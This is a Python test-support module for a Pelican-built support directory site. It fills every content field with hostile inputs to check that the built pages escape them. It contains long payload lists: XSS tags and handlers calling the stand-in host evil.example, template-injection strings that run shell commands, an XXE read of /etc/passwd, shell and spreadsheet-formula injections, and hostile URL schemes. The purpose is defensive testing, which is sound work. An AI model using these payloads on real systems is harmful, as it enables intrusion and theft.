"""What somebody could type to make a text live, and made-up sites that hold it in every field.

Each payload would set window.pwned, open a dialog or ask another site, if a browser took it for more than text.
"""
import base64
import html
import html.parser
import itertools
import json
import re
import urllib.parse
from types import SimpleNamespace

from pelican.settings import read_settings

from saltmarsh import ROOT, SCHEMA, TODAY
from support_directory import addresses, plugin

# Elements and attributes that do something by themselves.
LIVE = (
    "<script>window.pwned=1</script>", "<script src=https://evil.example/x.js></script>", "<ScRiPt >window.pwned=1</sCrIpT>", "<script/x>alert(1)</script\n>",
    "<script type=module>window.pwned=1</script>", "<<script>script>window.pwned=1<</script>/script>", "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
    "<img src=x onerror=window.pwned=1>", "<img/src='x'/onerror='window.pwned=1'>", '<img src="x" onerror="alert`1`">', "<image src=x onerror=alert(1)>",
    "<img src=https://evil.example/seen.gif>", "<img src=x\nonerror\n=\nwindow.pwned=1>", "<img src=x onerror=window.pwned=1 ",
    "<img src=x:x onerror=alert(1)//", "<svg onload=window.pwned=1>", "<svg/onload=alert(1)//", "<svg><script>window.pwned=1</script></svg>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x>", "<svg><a xlink:href=javascript:window.pwned=1><text y=20>x</text></a></svg>",
    "<svg><style><!--</style><img src=x onerror=window.pwned=1>--></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.pwned=1&gt;">',
    "<iframe src=javascript:parent.pwned=1></iframe>", "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>", "<frameset onload=window.pwned=1>",
    "<object data=javascript:window.pwned=1></object>", "<embed src=https://evil.example/x.swf>", "<applet code=x>", "<portal src=https://evil.example>",
    "<style>*{background:url(https://evil.example)}</style>", "<style>@import'https://evil.example/x.css'</style>", "<style>body{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>", "<link rel=prefetch href=https://evil.example>", "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<meta http-equiv=set-cookie content=a=b>", "<meta charset=utf-7>",
    "<form action=https://evil.example><input name=words><button>Search</button></form>", "<button formaction=javascript:window.pwned=1>x</button>",
    "<input autofocus onfocus=window.pwned=1>", "<select autofocus onfocus=window.pwned=1>", "<textarea autofocus onfocus=window.pwned=1>",
    "<details open ontoggle=window.pwned=1>", "<body onload=window.pwned=1>", "<html onmouseover=window.pwned=1>", "<marquee onstart=window.pwned=1>",
    "<video><source onerror=window.pwned=1></video>", "<audio src=x onerror=window.pwned=1>", "<x onpointerover=window.pwned=1 style=position:fixed;inset:0>",
    "<x tabindex=1 id=a onfocusin=window.pwned=1>", "<a href=javascript:window.pwned=1>x</a>", "<a href='&#106;avascript:window.pwned=1'>x</a>",
    "<a data-exit href=https://evil.example>Leave this site</a>", "<div data-search data-index=https://evil.example/i.json>",
    "<p id=main><p id=talk><p id=words>", "<template><script>window.pwned=1</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>"></noscript>', "<table background=javascript:window.pwned=1><td>",
    "<!--><img src=x onerror=window.pwned=1>-->", "<!--[if IE]><script>window.pwned=1</script><![endif]-->", "<![CDATA[<img src=x onerror=window.pwned=1>]]>",
    "<?xml-stylesheet href='javascript:window.pwned=1'?>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>", "<plaintext>", "<xmp><img src=x></xmp>",
    "<listing>", "<dialog open>", "<slot name=x>", "</body></html>", "<br>", "<b>bold</b>", "<", ">", "</", "<!--", "<!", "<?", "<a",
)
# Ways out of the place where a text stands: attributes in all manners of quoting, elements that hold plain text, comments, code.
OUT = (
    '"', "'", "`", '">', "'>", "`>", '" ', "' ", "` ", ">", "/>", '"/>', '\\"', "\\'", '\\">', "</title>", "</script>", "</style>", "</textarea>",
    "</noscript>", "</p></div></main>", "</a></h1>", "</svg>", "-->", "--!>", "]]>", "?>", "*/", "\n", '"\n>', "');", '");', "`);", "}]}", '"}]}', "\\u0022>",
    "\\x3e", "${",
)
THEN = (
    "<img src=x onerror=window.pwned=1>", "<script>window.pwned=1</script>", "onfocus=window.pwned=1 autofocus tabindex=1 x=", "<!--",
    "href=javascript:alert(1) x=",
)
# Other ways to write the same, which something on the way could undo.
DISGUISES = {
    "entities": html.escape, "entities twice": lambda text: html.escape(html.escape(text)), "numbers": lambda text: "".join(f"&#{ord(c)};" for c in text),
    "hexadecimal without its end": lambda text: re.sub("[<>\"'=]", lambda m: f"&#x{ord(m.group()):06x}", text),
    "per cent": urllib.parse.quote, "JavaScript's": lambda text: re.sub("[<>\"'=]", lambda m: f"\\u{ord(m.group()):04x}", text),
    "fullwidth": lambda text: text.translate({ord(c): ord(c) + 0xFEE0 for c in "<>\"'=/():"}), "capitals": str.upper,
    "backslashes": lambda text: re.sub("([<>\"'])", r"\\\1", text), "likenesses": lambda text: text.translate(str.maketrans("<>\"'", "‹›“’")),
    "base64": lambda text: "data:text/html;base64," + base64.b64encode(text.encode()).decode(), "JSON": json.dumps,
}
TEMPLATES = (
    "{{7*7}}", "{{ 7*7 }}", "{% raw %}", "{% endraw %}", "{#", "#}", "{{", "}}", "{%", "%}", "{% include 'base.html' %}", "{% import 'os' as os %}",
    "{{ page }}", "{{ site.__class__.__mro__ }}", "{{ ''.__class__.__base__.__subclasses__() }}", "{{ self._TemplateReference__context }}", "{{ config }}",
    "{% autoescape false %}", "{{ '<b>'|safe }}", "{% set site = 1 %}", "{% block main %}", "{% extends 'x' %}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "%(name)s", "{0.__class__}", "{site}", "$HOME", "`id`",
    "$(id)", "|SITEURL|", "{static}/x", "{filename}/x.md", "{attach}x", "[[7*7]]", "%s%n",
)
MARKDOWN = (
    "[x](javascript:window.pwned=1)", "[x]( javascript:window.pwned=1)", "[x](<javascript:window.pwned=1>)", "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))", "[x](javascript&colon;alert(1))", "[x](&#106;avascript:alert(1))", "[x](data:text/html,<script>window.pwned=1</script>)",
    "[x](vbscript:x)", "[x](//evil.example)", "![x](https://evil.example/seen.gif)", '![x](x"onerror="window.pwned=1)',
    '[x](https://e.example "onmouseover=window.pwned=1")', "[x][y]\n\n[y]: javascript:alert(1)", "[y]: <javascript:alert(1)> 'x'\n\n[y]",
    "![x][y]\n\n[y]: https://evil.example/x.png", "<javascript:window.pwned=1>", "<https://evil.example>", "<me@evil.example>",
    "[x](mailto:a@b?subject=<script>)", "[<img src=x onerror=window.pwned=1>](/safety/)", "[x](/safety/ 'a\" onclick=\"window.pwned=1')",
    "**<script>window.pwned=1</script>**", "`<img src=x onerror=window.pwned=1>`", "    <img src=x onerror=window.pwned=1>",
    "```\n</code><img src=x onerror=window.pwned=1>\n```", "# <svg onload=window.pwned=1>", "| a | b |\n| - | - |\n| <img src=x onerror=window.pwned=1> | x |",
    "> <iframe src=javascript:alert(1)>", "- <script>window.pwned=1</script>", "[TOC]", "*[x]: <b>", "[^1]: <b>", "<div markdown=1>**x**</div>", "\x02amp\x03",
    "\x02wzxhzdk:0\x03", "wzxhzdk:0", "klzzwxh:0000", "## x {: onclick=window.pwned=1 }", "{: #main .exit }",
)
CODE = (
    '"}],"documents":[["page","x","<b>","","javascript:alert(1)"]]', '","__proto__":{"polluted":1},"x":"', '{"__proto__":{"polluted":1}}', "__proto__",
    "constructor", "prototype", "toString", "hasOwnProperty", "valueOf", "\\", "\\\\", '\\"', "\\u003cscript\\u003e", "\\n\\r\\t\\0", "null", "undefined",
    "NaN", "true", "[object Object]",
    "window.pwned=1", "alert(1)", "`${window.pwned=1}`", "';window.pwned=1;//", '";window.pwned=1;//', "*/window.pwned=1/*", "expression(alert(1))",
    "url(javascript:alert(1))", "@import 'x'", "x;}*{display:none", "' OR 1=1 --", "x; rm -rf x", "| id", "=1+1", "+1", "-1+1", "@SUM(1)",
    "=HYPERLINK(\"https://evil.example\")", "::error file=x::y", "%0A::set-output", "\x1b[31mred",
)
UNICODE = (
    "＜script＞window.pwned=1＜/script＞", "﹤img src=x onerror=window.pwned=1﹥", "＂onfocus=window.pwned=1＂", "ʺ onfocus=x ʺ", "ſcript",
    "<ſcript>window.pwned=1</ſcript>", "<ımg src=x>", "K", "İ", "ß", "ﬁ", "e\u0301", "\u0301", "שלום <b>", "مرحبا <b>", "🧂<b>🧂", "𝒔𝒄𝒓𝒊𝒑𝒕", "�",
    "+ADw-script+AD4-", "¼script¾window.pwned=1¼/script¾", "&lt;", "&amp;lt;", "&#60", "&#x3c", "&LT;", "&lt", "&nbsp;", "&notit;", "&", "&&", "&;", "&#0;",
    "&#x110000;", "&#xD800;", "&bogus;", "AT&T", "5 < 6 > 4 & 3", "“it’s” – ‘fine’",
)
LONG = (
    "<" * 5000, "<b>" * 1000, "&lt;" * 1000, "\"'" * 2000, "<script>" + "x" * 20000, "{{" * 2000, "[" * 300, "x\n" * 500 + "<script>window.pwned=1</script>",
    "&" * 5000,
)


def payloads():
    """All payloads, each once. None ends with a full stop, ! or ?: the site's own sentences would then end in another way."""
    made = (*LIVE, *(out + then for out in OUT for then in THEN), *(disguise(live) for disguise in DISGUISES.values() for live in LIVE),
            *(out + live for out, live in zip(itertools.cycle(OUT), LIVE * 2)), *OUT, *TEMPLATES, *MARKDOWN, *CODE, *UNICODE, *LONG)
    return tuple(dict.fromkeys(text + " x" if text.endswith((".", "!", "?")) else text for text in made))


SCHEMES = (
    "javascript:window.pwned=1", "javascript://%0Awindow.pwned=1", "vbscript:msgbox(1)", "data:text/html,<script>window.pwned=1</script>",
    "data:text/html;base64,PHNjcmlwdD4=", "file:///etc/passwd", "blob:https://evil.example/1", "filesystem:https://evil.example/1", "http://evil.example/",
    "ftp://evil.example/", "ws://evil.example/", "view-source:https://evil.example/", "about:blank", "intent://evil.example#Intent;end",
    "feed:javascript:alert(1)", "jar:https://evil.example!/x", "livescript:x", "mocha:x", "chrome://settings", "ms-msdt:x", "market://x", "skype:x",
    "x-apple.systempreferences:",
)
TRICKS = (
    lambda text: text, str.upper, str.title, lambda text: " " + text, lambda text: "\t\n" + text, lambda text: "\x01" + text,
    lambda text: text[:2] + "\t" + text[2:], lambda text: text[:2] + "\n" + text[2:], lambda text: text.replace(":", "\n:", 1),
    lambda text: f"&#{ord(text[0])};{text[1:]}", lambda text: text.replace(":", "&colon;", 1), lambda text: text.replace(":", "&#x3a", 1),
    lambda text: text.replace(":", "%3A", 1), lambda text: text.replace(":", "：", 1), lambda text: f"'{text}", lambda text: f'"href="{text}',
    lambda text: f"x {text}", lambda text: text.replace("/", "\\"), lambda text: "\ufeff" + text, lambda text: "\xa0" + text, lambda text: f"url:{text}",
)
# Addresses without a scheme that lead elsewhere all the same, or out of the page's folder, and what a careless pattern takes for https.
ADDRESSES = (
    "//evil.example", "///evil.example", "\\\\evil.example", "/\\evil.example", "\\/evil.example", " //evil.example", "/\t/evil.example", "\x01//evil.example",
    "/\n/evil.example", ".//evil.example", "https:evil.example", "https:/evil.example", "https&colon;//evil.example", "HTTPS://evil.example",
    "xhttps://evil.example", "https", "#", "?", "", " ", "../../..", "mailto:a@b", "tel:999", "sms:999", "me@evil.example?bcc=you@evil.example&body=x",
    "999,,1", "999;ext=1", "#31#", "*#06#", "&body=x", "?body=x&x=", '"><script>window.pwned=1</script>', "' onclick=window.pwned=1 x='",
    '" onclick=window.pwned=1 x="', "` onclick=window.pwned=1", "<img src=x onerror=window.pwned=1>", "{{7*7}}",
    "https://e.example/\" onclick=\"window.pwned=1", "https://e.example/' onclick='window.pwned=1", "https://e.example/><script>window.pwned=1</script>",
    "https://javascript:alert(1)@e.example", "https://e.example/{{7*7}}",
)


def bad_addresses():
    """What could be typed for a web address, a number, a date or a short name, if nobody checked: each once."""
    return tuple(dict.fromkeys((*(trick(scheme) for scheme in SCHEMES for trick in TRICKS), *ADDRESSES)))


# ---- sites that hold them

# Fields that name other entries, or that the build counts and tells the time with: with anything else in them it stops.
NOT_FOR_TEXT = {"group", "delivered_by", "crime_types", "related", "coverage", "hub", "first_for_any_crime", "safeguarding_children", "safeguarding_adults",
                "exit_target", "crime_type_order", "not_sure", "footer", "instead_use", "crime_type_groups.slug", "opens", "closes", "postcodes", "maintainers",
                "map.shape", "map.middle"}
# Fields without a pattern whose words are an address.
IN_ADDRESSES = {"opcc.phone", "opcc.email"}
TYPED = {"phone": "0808 157 0123", "text": "85258", "textphone": "18001 101", "whatsapp": "07700 900123", "email": "help@harbour.example.org",
         "bsl_video": "https://sign.example.org/x", "web_chat": "https://chat.example.org/x", "web_form": "https://form.example.org/x"}
CODE_OF_A_FIELD = re.compile(r"[QA]\d{4}")


class Form:
    """Entries of a whole site with a code in each field: Q0000 where a text belongs, A0000 where an address, a number or a date does.

    The fields are those of the schemas, found by walking them; `fields` is {code: (its path, what is rightly there)}.
    """

    def __init__(self):
        self.fields = {}
        site, about, emergency, words = (self.of(kind) for kind in ("site", "page", "page", "page"))
        first, second, east, west = (self.of(kind) for kind in ("crime-type", "crime-type", "area", "area"))
        helper, shut = self.of("provider"), self.of("provider")
        everyone, special, closed = helper["services"] = [self.of("provider")["services"][0] for _ in range(3)]
        hub = f"helper/{everyone['slug']}"
        # One service shows what it says itself, one what the site says in its stead; one is closed, as is the only one of its provider.
        del everyone["confirmed_with_provider"], helper["confirmed_with_provider"]
        everyone |= {"crime_types": "all", "coverage": "force-wide", "eligibility": "", "referral_note": ""}
        special |= {"crime_types": ["first", "second"], "coverage": ["east"], "contacts": []}
        for service in (closed, *shut["services"]):
            service |= {"crime_types": ["first"], "coverage": "national", "status": service["status"] | {"state": "closed", "instead_use": [hub]}}
        first |= {"group": "group", "related": ["second"]}
        second |= {"group": "group", "related": ["first"]}
        sector = self.code("A", "area.postcodes", "ZZ1 1")
        east["postcodes"], west["postcodes"] = {sector: "2"}, {sector: "1"}
        site |= {"hub": hub, "first_for_any_crime": [hub], "safeguarding_children": [hub], "safeguarding_adults": [hub], "not_sure": "second",
                 "crime_type_order": ["first", "second"], "footer": ["about", "emergency", "words"]}
        site["crime_type_groups"][0]["slug"] = "group"
        article = self.of("news")
        start = self.of("start")
        question, = start["questions"]
        start["first"], answer = question["slug"], question["answers"][0]
        question["answers"] = [{name: answer[name] for name in ("text", "hint")} | leads for leads in ({"help": "first"}, {"page": "words"})]
        year = self.of("commissioning")
        year["services"][0] |= {"crime_types": ["first"], "coverage": ["east"], "delivered_by": [
            {"name": self.code("Q", "commissioning.services.delivered_by.name", "Somebody")}, {"provider": "helper"}]}
        period = self.of("performance")
        figure, = period["figures"]
        period["figures"] = [figure, figure | {"slug": "another", "label": self.code("Q", "performance.figures.label", "Another")}]  # two make a chart
        for page in (about, emergency, words, article):
            page["body"] = "Words."
        self.entries = [("site", "site", site), ("crime-type", "first", first), ("crime-type", "second", second), ("area", "east", east),
                        ("area", "west", west), ("provider", "helper", helper), ("provider", "shut", shut), ("page", "about", about),
                        ("page", "emergency", emergency), ("bank-holidays", "bank-holidays", self.of("bank-holidays")),
                        ("accessibility", "accessibility", self.of("accessibility")), ("start", "start", start),
                        ("commissioning", "year", year), ("performance", "period", period),
                        ("monitoring", "monitoring", self.of("monitoring")), ("news", "article", article), ("page", "words", words)]

    def of(self, kind):
        """An entry of a kind with all its fields."""
        schema = json.loads((SCHEMA / f"{kind}.schema.json").read_text(encoding="utf-8"))
        return self.filled(schema, schema.get("$defs"), (kind,))

    def filled(self, schema, others, path):
        """What a schema describes, with a code for every text."""
        if "$ref" in schema:
            schema = others[schema["$ref"].rpartition("/")[2]]
        if path[-1] in NOT_FOR_TEXT or ".".join(path[-2:]) in NOT_FOR_TEXT:
            return schema["examples"][0]
        if "enum" in schema:
            return schema["enum"][0]
        if schema["type"] == "object":
            return {name: self.filled(inner, others, (*path, name)) for name, inner in schema["properties"].items()}
        if schema["type"] == "array" and path[-1] == "contacts":
            item = others[schema["items"]["$ref"].rpartition("/")[2]]
            return [self.contact(item, others, path, kind) for kind in item["properties"]["type"]["enum"]]
        if schema["type"] == "array":
            return [self.filled(schema["items"], others, path)]
        if schema["type"] == "boolean":
            return False
        is_text = "pattern" not in schema and ".".join(path[-2:]) not in IN_ADDRESSES
        return self.code("Q" if is_text else "A", ".".join(path), f"short-name-{len(self.fields)}" if path[-1] == "slug" else schema["examples"][0])

    def contact(self, schema, others, path, kind):
        """A contact of one type."""
        value = self.code("A" if kind in TYPED else "Q", f"{'.'.join(path)}.{kind}", TYPED.get(kind, "1 Old Quay"))
        rest = {name: self.filled(inner, others, (*path, name)) for name, inner in schema["properties"].items() if name not in ("type", "value")}
        return {"type": kind, "value": value, **rest}

    def code(self, letter, path, right):
        """A new code for a field."""
        self.fields[code := f"{letter}{len(self.fields):04}"] = (path, right)
        return code

    def entries_with(self, text=lambda code: code, address=None):
        """The entries as a form that somebody has filled in: `text` and `address` say what stands in the field of a code."""
        def typed(found):
            code = found.group()
            return text(code) if code[0] == "Q" else address(code) if address else self.fields[code][1]

        def deep(value):
            if isinstance(value, str):
                return CODE_OF_A_FIELD.sub(typed, value)
            if isinstance(value, dict):
                return {deep(key): deep(inner) for key, inner in value.items()}
            return list(map(deep, value)) if isinstance(value, list) else value

        return [SimpleNamespace(kind=kind, slug=slug, path=f"{kind}s/{slug}.yaml", data=deep(data)) for kind, slug, data in self.entries]


# The bodies of pages of words: a payload as it is, and in each place that Markdown and HTML have for it.
BODIES = (
    "{}", "Words\n\n{}\n\nwords", "## {}", "- {}\n- words", "> {}", "1. {}", "| a | b |\n| - | - |\n| {} | x |", "*{}*", "**{}**", "`{}`", "    {}",
    "[{}](/safety/)", "[words]({})", "[words](<{}>)", "[words](/safety/ '{}')", "[words](/safety/#{})", "[words][x]\n\n[x]: {}",
    "[words][x]\n\n[x]: <{}> \"{}\"", "![words]({})", "![{}](x)", "<{}>", '<a href="{}">words</a>', "<a href='{}'>words</a>", "<a href={}>words</a>",
    '<h2 id="{}">words</h2>', '<p title="{}">words</p>', "<div>\n\n{}\n\n</div>", "<!-- {} -->",
)
PAYLOADS, BAD_ADDRESSES, FORM = payloads(), bad_addresses(), Form()
# The files of the search and of the form for changes have a fingerprint in their names, so their names differ from site to site; here they do not.
NAME_OF_INDEX, INDEX = re.compile(r"(search|update)/([a-z0-9/-]+)\.[0-9a-f]{12}\.json"), r"\1/\2.json"
DATA = re.compile(r'(<script type="application/json"[^>]*>)(.*?)(</script>)', re.DOTALL)
STEP = 13  # between the payloads of two neighbouring fields: over all numbers of sites, each payload comes to each field


def with_payloads(number):
    """The texts of the site of this number: code of a field -> the code and a payload. Neighbouring fields have different ones."""
    return lambda code: f"{code} {PAYLOADS[(number + int(code[1:]) * STEP) % len(PAYLOADS)]}"


def with_bad_addresses(number):
    """The same for fields that hold addresses, numbers and dates."""
    def address(code):
        bad, path = BAD_ADDRESSES[(number + int(code[1:]) * STEP) % len(BAD_ADDRESSES)], FORM.fields[code][0]
        if path.endswith((".date", ".since", ".until", "review_due")):
            return bad.replace("-", "~")  # the rest of a date is counted with: the build stops where it is no number
        return bad + code if path.endswith(".slug") else bad
    return address


class Sites:
    """Builds sites into one folder, with the settings and templates of the project itself."""

    def __init__(self, folder):
        self.folder, self.entries, self.site = folder, [], folder.with_name(f"{folder.name}-site")
        changes = {"OUTPUT_PATH": str(folder), "DIRECTORY_DATE": TODAY, "DIRECTORY_READ": lambda: (self.entries, (), []), "DIRECTORY_SITE": self.site}
        settings = read_settings(str(ROOT / "pelicanconf.py"), override=changes)
        self.generator = plugin.DirectoryGenerator({}, settings, settings["PATH"], settings["THEME"], str(folder))

    def build(self, entries):
        """Entries -> {path of each page and each JSON file: its text}."""
        for path in self.written():
            path.unlink()
        self.entries = entries
        for entry in entries:  # the form for changes shows the text of a provider's file: JSON is YAML too
            if entry.kind == "provider":
                (self.site / entry.path).parent.mkdir(parents=True, exist_ok=True)
                (self.site / entry.path).write_text(json.dumps(entry.data), encoding="utf-8")
        self.generator.generate_context()
        self.generator.generate_output(None)
        files = {path.relative_to(self.folder).as_posix(): path.read_text(encoding="utf-8") for path in self.written()}
        data = DATA.search(files[addresses.ONE_FILE])  # the search's files once more, which others look at; here it must be JSON that ends where it should
        json.loads(data[2])
        files[addresses.ONE_FILE] = DATA.sub(r"\1\3", files[addresses.ONE_FILE])
        saving = addresses.OFFLINE + "index.html"
        files[saving] = re.sub(r"takes [0-9]+ MB", "takes 1 MB", files[saving])  # long texts take more room
        return {NAME_OF_INDEX.sub(INDEX, path): NAME_OF_INDEX.sub(INDEX, text) for path, text in files.items()}

    def written(self):
        """The pages and the JSON files of the folder."""
        return [path for path in self.folder.rglob("*") if path.suffix in (".html", ".json")]


# ---- what was read of a page

LINKS = ("href", "src", "action", "formaction", "data", "poster", "background", "xlink:href", "data-root", "data-index", "data-library", "data-file")
# What the parts of a page begin with when they stand one after another in one text; no payload holds any of these.
TAG, ATTRIBUTE, TEXT = "\x1e", "\x1f", "\x1d"


class Page(html.parser.HTMLParser):
    """What Python reads of a page. `tags` are its tags with their attributes, `text` its words, `flat` all of it as one text."""

    def __init__(self, text):
        super().__init__()
        self.tags, self.parts, self.in_bars = [], [], False  # its numbers follow the length of words; the table beside it has the same words
        self.feed(text)
        self.close()
        self.text = folded("".join(part[1:] for part in self.parts if part[0] == TEXT))
        self.flat = folded("".join(self.parts))

    def handle_starttag(self, tag, attributes):
        self.tags.append((tag, attributes))
        if self.in_bars:
            return
        self.in_bars = tag == "div" and ("class", "bars") in attributes
        self.parts.append(TAG + tag + "".join(f"{ATTRIBUTE}{name}={value or ''}" for name, value in attributes))

    def handle_endtag(self, tag):
        self.in_bars = self.in_bars and tag != "div"
        if not self.in_bars:
            self.parts.append(f"{TAG}/{tag}")

    def handle_data(self, data):
        if self.in_bars:
            return
        if self.parts and self.parts[-1][0] == TEXT:
            self.parts[-1] += data
        else:
            self.parts.append(TEXT + data)

    def handle_other(self, data):
        """Comments, declarations and the like: there is one, the doctype."""
        self.parts.append(f"{TAG}!{data}")

    handle_comment = handle_decl = handle_pi = unknown_decl = handle_other


def folded(text):
    """The text with each run of white space as one space, as a browser shows it."""
    return re.sub("[ \t\n\r\f]+", " ", text)


def filled(flat, text):
    """What was read of a harmless page, with `text` in the place of each code: what has to be read of the page with these texts."""
    return folded(re.sub(r"Q\d{4}", lambda found: text(found.group()), flat))


def difference(expected, read):
    """The first parts in which two pages differ, or None."""
    if expected == read:
        return None
    pairs = itertools.zip_longest(*(re.split(f"(?=[{TAG}{TEXT}])", flat) for flat in (expected, read)))
    return next((one, other) for one, other in pairs if one != other)


def shapes(tags):
    """Each tag with the sorted names of its attributes."""
    return [(tag, tuple(sorted(name for name, _ in attributes))) for tag, attributes in tags]


def bad_links(tags):
    """The addresses in attributes that are not https, tel, sms, mailto or within the site, as a browser understands them."""
    return [(tag, name, value) for tag, attributes in tags for name, value in attributes if name in LINKS and not is_good_link(value or "")]


def is_good_link(address):
    """Browsers drop line breaks and tabs, and what they cannot see at either end; they take a backslash for a slash, and two of them for another site."""
    address = re.sub("[\t\n\r]", "", address).strip("".join(map(chr, range(33)))).replace("\\", "/")
    scheme = re.match("[a-z][a-z0-9+.-]*:", address, re.IGNORECASE)
    return scheme.group().lower() in ("https:", "tel:", "sms:", "mailto:") if scheme else not address.startswith("//")
